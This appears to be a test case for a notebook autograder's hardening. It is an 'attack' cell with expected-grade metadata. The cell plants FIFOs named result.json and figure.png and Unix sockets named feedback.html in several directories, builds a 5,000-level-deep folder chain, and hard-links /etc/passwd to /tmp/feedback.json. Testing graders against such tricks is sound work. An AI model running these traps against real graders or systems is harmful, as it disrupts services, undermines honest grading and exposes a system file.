# attack: leaves a FIFO, a socket, a hard link and a folder that is very deep where a grader might look
# verdict: graded
# marks: double_two=1 double_negative=2 noise_bounds=2
# says: planted
# limits: cell=10
# %% after="double"
import os
import socket

for folder in (".", "/tmp", "/dev/shm"):
    for name in ("result.json", "figure.png"):
        try:
            os.mkfifo(f"{folder}/{name}")
        except PermissionError:
            pass  # no notebook needs one
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"{folder}/feedback.html")
here = os.getcwd()
os.chdir("/tmp")
for depth in range(5_000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
try:
    os.link("/etc/passwd", "/tmp/feedback.json")
except OSError:
    pass
print("planted")
